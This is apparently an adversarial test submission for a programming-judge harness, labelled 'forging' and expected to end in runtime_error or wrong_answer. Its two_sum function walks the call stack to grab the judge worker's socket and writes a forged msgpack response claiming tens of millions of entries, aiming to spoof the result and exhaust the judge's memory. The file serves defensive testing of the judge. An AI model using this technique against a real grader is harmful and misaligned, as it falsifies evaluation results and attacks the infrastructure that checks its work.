# Family: forging
# Must not: make the judge build tens of millions of pairs
# Expect: runtime_error, wrong_answer
# Problem: two-sum
import struct
import sys

import msgpack

def wire():
    """The worker, its socket, the number and the operation of the request it is serving."""
    frame = sys._getframe()
    while frame.f_code.co_name != "serve":
        frame = frame.f_back
    worker = frame.f_locals["self"]
    return worker, worker._channel, frame.f_locals["number"], frame.f_locals["operation"]


def send(channel, body):
    channel.sendall(struct.pack("<I", len(body)) + body)



def two_sum(nums, target):
    _, channel, number, _ = wire()
    count = (32 << 20) - 100
    head = b"\x95" + msgpack.packb(number) + b"\xc3\xdf" + struct.pack(">I", count)
    channel.sendall(struct.pack("<I", len(head) + 2 * count + 2) + head)
    block = b"\x01\x02" * (1 << 15)
    for _ in range(2 * count // len(block)):
        channel.sendall(block)
    channel.sendall(block[: 2 * count % len(block)] + b"\xc0\x00")
    return [0, 1]
